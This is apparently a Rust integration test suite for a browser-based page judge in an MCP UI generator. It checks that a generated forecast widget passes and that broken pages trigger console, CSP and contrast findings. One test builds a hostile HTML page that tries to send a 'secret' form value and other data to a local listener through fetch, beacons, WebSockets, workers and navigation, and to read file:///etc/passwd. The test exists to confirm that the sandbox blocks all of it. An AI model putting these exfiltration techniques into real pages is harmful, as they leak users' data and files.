//! The llm generator's browser judge against the real Chromium: a working page passes every
//! check, each failure class of issue 36 is seen, and a hostile page reaches nothing outside the
//! local host. Skips loudly (never passes silently) when no browser is found.

use std::io::Read;
use std::net::TcpListener;
use std::path::PathBuf;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::{Duration, Instant};

use mcp_gen_ui::config::{CspConfig, ToolConfig};
use mcp_gen_ui::generate::WidgetRequest;
use mcp_gen_ui::generate::builtin::{Templates, render};
use mcp_gen_ui::model::Tool;
use mcp_gen_ui::validate::browser::{BrowserFinding, Judge, PageToJudge};
use serde_json::{Value, json};

fn browser() -> Option<PathBuf> {
    match mcp_gen_ui::review::visual::find_browser(None) {
        Ok(p) => Some(p),
        Err(e) => {
            eprintln!("\n*** SKIPPED: no browser for the browser judge's tests: {e} ***\n");
            assert!(
                std::env::var_os("MCP_GEN_UI_REQUIRE_BROWSER").is_none(),
                "MCP_GEN_UI_REQUIRE_BROWSER is set but no browser was found"
            );
            None
        }
    }
}

fn forecast() -> Value {
    json!({"name": "get_forecast", "description": "Daily forecast.",
        "inputSchema": {"type": "object", "required": ["city"], "properties": {
            "city": {"type": "string", "minLength": 1}, "days": {"type": "integer", "minimum": 1, "maximum": 7}}},
        "outputSchema": {"type": "object", "properties": {"city": {"type": "string"},
            "days": {"type": "array", "items": {"type": "object", "properties": {
                "date": {"type": "string", "format": "date"}, "high": {"type": "number"}}}}}},
        "annotations": {"readOnlyHint": true}})
}

fn builtin_page(tool: &Value) -> String {
    let t = Tool::from_raw(tool.clone()).unwrap();
    let cfg = ToolConfig::default();
    let req = WidgetRequest {
        tool: &t,
        tool_config: &cfg,
        widget: None,
        hints: Default::default(),
        refinements: &[],
        server_name: "judge",
    };
    render(&req, &Templates::embedded()).unwrap()
}

fn judge(j: &Judge, html: &str, tool: &Value) -> Vec<BrowserFinding> {
    let csp = CspConfig::default();
    j.judge(&PageToJudge {
        html,
        tool,
        csp: &csp,
        examples: &[],
        sample: None,
        deadline: Instant::now() + Duration::from_secs(30),
    })
}

fn rules(f: &[BrowserFinding]) -> Vec<&'static str> {
    f.iter().map(|f| f.rule).collect()
}

#[test]
fn a_working_page_passes_and_broken_ones_are_seen() {
    let Some(exe) = browser() else { return };
    let j = Judge::start(&exe).unwrap();
    let tool = forecast();
    let good = builtin_page(&tool);
    let f = judge(&j, &good, &tool);
    assert!(f.is_empty(), "the builtin page passes: {f:#?}");

    // The same page with an exception thrown by its own script, a remote image and pale text
    // set by a script.
    let broken = good.replacen(
        "</body>",
        "<script>setTimeout(function(){ JSON.parse('Forecast for Lyon'); }, 10);\
         var i = new Image(); i.src = 'https://via.placeholder.com/64'; document.body.appendChild(i);\
         var p = document.createElement('p'); p.id = 'pale'; p.textContent = 'Pale note'; p.style.color = '#d0d0d0'; document.body.appendChild(p);</script></body>",
        1,
    );
    let f = judge(&j, &broken, &tool);
    let r = rules(&f);
    assert!(r.contains(&"browser-console"), "{f:#?}");
    assert!(f.iter().any(|x| x.message.contains("JSON")), "{f:#?}");
    assert!(r.contains(&"browser-csp"), "{f:#?}");
    assert!(
        f.iter()
            .any(|x| x.rule == "browser-contrast" && x.message.contains("Pale note")),
        "{f:#?}"
    );
}

#[test]
fn a_page_without_the_handshake_or_a_run_is_judged_so() {
    let Some(exe) = browser() else { return };
    let j = Judge::start(&exe).unwrap();
    let f = judge(
        &j,
        "<!doctype html><html><body><p>Hello</p></body></html>",
        &forecast(),
    );
    assert_eq!(rules(&f)[0], "browser-handshake", "{f:#?}");
}

/// A page that tries every way out: nothing reaches another origin, no file is read.
#[test]
fn a_hostile_page_reaches_nothing_outside_the_local_host() {
    let Some(exe) = browser() else { return };
    let outside = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = outside.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = Arc::clone(&hits);
    outside.set_nonblocking(true).unwrap();
    std::thread::spawn(move || {
        let until = Instant::now() + Duration::from_secs(60);
        while Instant::now() < until {
            if let Ok((mut c, _)) = outside.accept() {
                let mut b = [0u8; 512];
                let _ = c.read(&mut b);
                h.fetch_add(1, Ordering::SeqCst);
            }
            std::thread::sleep(Duration::from_millis(5));
        }
    });
    let o = format!("http://127.0.0.1:{port}");
    let hostile = format!(
        r#"<!doctype html><html><head>
<link rel="stylesheet" href="{o}/css"><link rel="prefetch" href="{o}/prefetch">
<script src="{o}/script.js"></script></head><body>
<img src="{o}/img"><img src="file:///etc/passwd"><iframe src="{o}/frame"></iframe>
<form id="f" action="{o}/post" method="post"><input name="x" value="secret"></form>
<script>
try {{ fetch("{o}/fetch").catch(function(){{}}); }} catch (e) {{}}
try {{ fetch("file:///etc/passwd").catch(function(){{}}); }} catch (e) {{}}
try {{ navigator.sendBeacon("{o}/beacon", "x"); }} catch (e) {{}}
try {{ new WebSocket("ws://127.0.0.1:{port}/ws"); }} catch (e) {{}}
try {{ var x = new XMLHttpRequest(); x.open("GET", "{o}/xhr"); x.send(); }} catch (e) {{}}
try {{ new Worker("data:text/javascript,fetch('{o}/worker')"); }} catch (e) {{}}
try {{ window.open("{o}/open"); }} catch (e) {{}}
try {{ window.top.location = "{o}/top"; }} catch (e) {{}}
try {{ parent.location.href = "{o}/parent"; }} catch (e) {{}}
setTimeout(function () {{ try {{ document.getElementById("f").submit(); }} catch (e) {{}} }}, 50);
setTimeout(function () {{ location.href = "{o}/self"; }}, 150);
</script></body></html>"#
    );
    let j = Judge::start(&exe).unwrap();
    let f = judge(&j, &hostile, &forecast());
    std::thread::sleep(Duration::from_millis(500));
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "a request left the local host: {f:#?}"
    );
    assert!(rules(&f).contains(&"browser-csp"), "{f:#?}");
    // The judge is still usable afterwards (the page did not take the browser down).
    let tool = forecast();
    assert!(judge(&j, &builtin_page(&tool), &tool).is_empty());
}
